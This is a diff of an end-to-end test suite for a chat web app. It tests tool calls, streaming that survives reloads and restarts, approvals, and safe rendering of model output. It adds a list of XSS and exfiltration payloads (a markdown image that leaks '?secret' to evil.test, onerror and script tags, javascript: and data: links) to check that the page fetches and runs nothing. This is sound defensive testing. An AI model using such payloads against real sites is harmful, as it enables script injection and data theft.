@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { answer, button, type ChatSite, openSite, say, signIn } from './chat-site'
+import { answer, button, type ChatSite, openSite, say, signIn, textOf } from './chat-site'
 
 let site: ChatSite
 
@@ -8,6 +8,12 @@ beforeAll(async () => {
 })
 afterAll(() => site.close())
 
+const EVIL = [
+  '![a](http://evil.test/a.png?secret)',
+  '<img src=http://evil.test/b.png onerror=alert(1)>',
+  '<script>alert(2)</script><style>*{background:url(http://evil.test/c)}</style>',
+  '[click](javascript:alert(3)) [data](data:text/html,x)',
+]
 const words = (count: number) => Array.from({ length: count }, (_, index) => `word-${index + 1}`).join(' ')
 
 describe.each(['runs', 'chat'])('the page, sending by the contract of %s', (contract) => {
@@ -22,11 +28,11 @@ describe.each(['runs', 'chat'])('the page, sending by the contract of %s', (cont
       await say(page, 'What is (2 + 3) * 4 ?')
       const tool = page.locator('.tool-call')
       await expect.poll(() => tool.locator('.tool-state').textContent()).toBe('done')
-      await expect.poll(() => answer(page).last().textContent()).toContain('calculator says: {"value":20}')
+      await expect.poll(() => textOf(answer(page).last())).toContain('calculator says: {"value":20}')
       expect(await page.getByText('"expression"').isVisible()).toBe(false)
       await tool.locator('summary').click()
       expect(await page.getByText('"expression"').isVisible()).toBe(true)
-      await page.getByRole('link', { name: 'What is (2 + 3) * 4 ?' }).waitFor()
+      await page.getByRole('link', { name: 'What is (2 + 3) * 4 ?' }).first().waitFor()
       expect(sent.filter((line) => line.startsWith('POST /api/')).at(-1)).toMatch(
         contract === 'runs' ? /^POST \/api\/runs$/ : /^POST \/api\/chat\/[\w-]+$/,
       )
@@ -37,26 +43,28 @@ describe.each(['runs', 'chat'])('the page, sending by the contract of %s', (cont
       const page = await open(start)
       await signIn(page)
       await say(page, 'write 500 words')
-      await expect.poll(() => answer(page).textContent()).toContain('word-20 ')
+      await expect.poll(() => textOf(answer(page))).toContain('word-20 ')
       await page.reload()
       // What is shown first is no less than what was there.
-      expect((await answer(page).textContent())?.startsWith(words(20))).toBe(true)
-      await expect.poll(() => answer(page).textContent()).toBe(words(500))
+      expect((await textOf(answer(page))).startsWith(words(20))).toBe(true)
+      await expect.poll(() => textOf(answer(page))).toBe(words(500))
       await button(page, 'Stop').waitFor({ state: 'detached' })
     }))
 
   it('loses and repeats nothing while the apis are started anew', () =>
-    site.withTabs(async ({ open }) => {
+    site.withTabs(async ({ open, complaints }) => {
       const page = await open(start)
       await signIn(page)
       await say(page, 'write 900 words')
-      await expect.poll(() => answer(page).textContent()).toContain('word-20 ')
+      await expect.poll(() => textOf(answer(page))).toContain('word-20 ')
       await page.evaluate(watchShrinking)
       await site.stopApis()
-      expect((await answer(page).textContent())?.startsWith(words(20))).toBe(true)
+      expect((await textOf(answer(page))).startsWith(words(20))).toBe(true)
       await site.startApis()
-      await expect.poll(() => answer(page).textContent()).toBe(words(900))
+      await expect.poll(() => textOf(answer(page))).toBe(words(900))
       expect(await page.evaluate(() => Reflect.get(window, 'shrunk'))).toBe(false)
+      // What was being answered when its server went away.
+      expect(complaints.splice(0).filter((text) => !text.includes('status of 500'))).toEqual([])
     }))
 
   it('stops, says so, and goes on with the next message', () =>
@@ -64,15 +72,15 @@ describe.each(['runs', 'chat'])('the page, sending by the contract of %s', (cont
       const page = await open(start)
       await signIn(page)
       await say(page, 'write 20000 words')
-      await expect.poll(() => answer(page).textContent()).toContain('word-20 ')
+      await expect.poll(() => textOf(answer(page))).toContain('word-20 ')
       await button(page, 'Stop').click()
       await page.getByText('You stopped this.').waitFor()
-      const shown = await answer(page).textContent()
+      const shown = await textOf(answer(page))
       await page.reload()
       await page.getByText('You stopped this.').waitFor()
-      expect(await answer(page).textContent()).toBe(shown)
+      expect(await textOf(answer(page))).toBe(shown)
       await say(page, 'Hello again')
-      await expect.poll(() => answer(page).textContent()).toContain('You said: Hello again.')
+      await expect.poll(() => textOf(answer(page))).toContain('You said: Hello again.')
     }))
 
   it('asks before a call, takes edited arguments, and offers the file', () =>
@@ -90,7 +98,7 @@ describe.each(['runs', 'chat'])('the page, sending by the contract of %s', (cont
       await form.getByText(/makes no sense/).waitFor()
       await field.fill('{ "path": "list.md", "text": "buy bread" }')
       await form.getByRole('button', { name: 'Approve' }).click()
-      await expect.poll(() => answer(page).last().textContent()).toContain('"written":9')
+      await expect.poll(() => textOf(answer(page).last())).toContain('"written":9')
       await page.locator('.tool-call summary').click()
       await page.getByText('Arguments, edited by you').waitFor()
       await button(page, /Files/).click()
@@ -101,62 +109,67 @@ describe.each(['runs', 'chat'])('the page, sending by the contract of %s', (cont
     site.withTabs(async ({ open }) => {
       const first = await open(start)
       await signIn(first)
-      await say(first, 'note: eggs')
+      await say(first, `note: eggs for ${contract}`)
       await first.getByRole('form', { name: 'Decide about write_file' }).waitFor()
       const second = await open('/approvals')
-      await second.getByRole('link', { name: 'note: eggs' }).waitFor()
-      await second.getByRole('button', { name: 'Refuse' }).click()
-      await second.getByRole('textbox', { name: /Why not/ }).fill('we have some')
-      await second.getByRole('button', { name: 'Refuse' }).click()
-      await second.getByText('Nothing waits for you').waitFor()
-      await expect.poll(() => answer(first).last().textContent()).toContain('refused this call: we have some')
+      const card = second.locator('.card', { hasText: `note: eggs for ${contract}` })
+      await card.getByRole('button', { name: 'Refuse' }).click()
+      await card.getByRole('textbox', { name: /Why not/ }).fill('we have some')
+      await card.getByRole('button', { name: 'Refuse' }).click()
+      await card.waitFor({ state: 'detached' })
+      await expect.poll(() => textOf(answer(first).last())).toContain('refused this call: we have some')
       await second.goto(first.url())
-      await expect.poll(() => answer(second).last().textContent()).toContain('refused this call: we have some')
+      await expect.poll(() => textOf(answer(second).last())).toContain('refused this call: we have some')
       await say(second, 'Is anybody there?')
-      await expect.poll(() => answer(first).last().textContent()).toContain('You said: Is anybody there?')
+      await expect.poll(() => textOf(answer(first).last())).toContain('You said: Is anybody there?')
     }))
 })
 
 describe('the page', () => {
   it('shows what a model wrote as text: it fetches nothing, runs nothing, and no link of it runs anything', () =>
-    site
-      .withTabs(
-        async ({ open }) => {
-          const page = await open()
-          await signIn(page)
-          const asked: string[] = []
-          page.on('request', (request) => asked.push(new URL(request.url()).host))
-          const evil = [
-            '![a](http://evil.test/a.png?secret)',
-            '<img src=http://evil.test/b.png onerror=alert(1)>',
-            '<script>alert(2)</script><style>*{background:url(http://evil.test/c)}</style>',
-            '[click](javascript:alert(3)) [data](data:text/html,x)',
-          ]
-          await say(page, `${evil.join('\n\n')}\n\nthe end`)
-          await expect.poll(() => answer(page).textContent()).toContain('the end')
-          const hosts = new Set(asked)
-          expect([...hosts]).toEqual([new URL(site.url).host])
-          expect(await answer(page).locator('img, script, style, iframe, form, svg:not(.icon)').count()).toBe(0)
-          const links = await answer(page)
-            .locator('a')
-            .evaluateAll((all) => all.map((link) => link.getAttribute('href')))
-          expect(links.filter((href) => href !== null && !/^https?:/.test(href))).toEqual([])
-          const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
-          expect(policy).toContain("default-src 'none'")
-          const isRefused = page.evaluate(() =>
-            fetch('http://evil.test/').then(
-              () => false,
-              () => true,
-            ),
-          )
-          expect(await isRefused).toBe(true)
-        },
-        { bypassCSP: false },
-      )
-      .catch((error: Error) => {
-        // The refusal of the last line is what the console complains of.
-        if (!/Content Security Policy/.test(error.message)) throw error
-      }))
+    site.withTabs(async ({ open, complaints }) => {
+      const page = await open()
+      await signIn(page)
+      const asked = new Set<string>()
+      page.on('request', (request) => asked.add(new URL(request.url()).host))
+      await say(page, [...EVIL, 'the end'].join('\n\n'))
+      await expect.poll(() => textOf(answer(page))).toContain('the end')
+      expect([...asked]).toEqual([new URL(site.url).host])
+      expect(await answer(page).locator('img, script, style, iframe, form').count()).toBe(0)
+      const links = await answer(page)
+        .locator('a')
+        .evaluateAll((all) => all.map((link) => link.getAttribute('href')))
+      expect(links.filter((href) => href?.includes('script') || href?.startsWith('data:'))).toEqual([])
+      // Should something get through, the policy of the page is there.
+      const isRefused = () =>
+        fetch('http://evil.test/').then(
+          () => false,
+          () => true,
+        )
+      expect(await page.evaluate(isRefused)).toBe(true)
+      expect(complaints.splice(0).join()).toContain('Content Security Policy')
+    }))
+
+  it('says that a model failed, and tries again', () =>
+    site.withTabs(async ({ open }) => {
+      const page = await open('/settings')
+      await page.getByRole('button', { name: 'Grace' }).click()
+      await page.getByLabel('Provider').selectOption('openai-compatible')
+      await page.getByLabel('Address').fill('http://elsewhere.test/v1')
+      await button(page, 'Save').click()
+      await page.getByText('no host of MODEL_HOSTS').waitFor()
+      await page.getByLabel('Address').fill(`${site.url}/model/v1`)
+      await button(page, 'Save').click()
+      await page.getByText('Saved.').waitFor()
+      const chat = await open()
+      await say(chat, 'Anybody?')
+      await chat.getByText('This did not work.').waitFor()
+      await page.getByLabel('Provider').selectOption('demo')
+      await button(page, 'Save').click()
+      await page.getByLabel('Address').waitFor({ state: 'detached' })
+      await button(chat, 'Try again').click()
+      await expect.poll(() => textOf(answer(chat))).toContain('You said: Anybody?')
+    }))
 
   it('stores a key and never shows it again', () =>
     site.withTabs(async ({ open }) => {
@@ -182,7 +195,7 @@ describe('the page', () => {
       const page = await open()
       await signIn(page)
       await say(page, 'Something of Ada')
-      await expect.poll(() => answer(page).textContent()).toContain('You said')
+      await expect.poll(() => textOf(answer(page))).toContain('You said')
       await button(page, 'Rename this chat').click()
       await page.getByRole('textbox', { name: 'Name' }).fill('Renamed')
       await button(page, 'Rename').click()
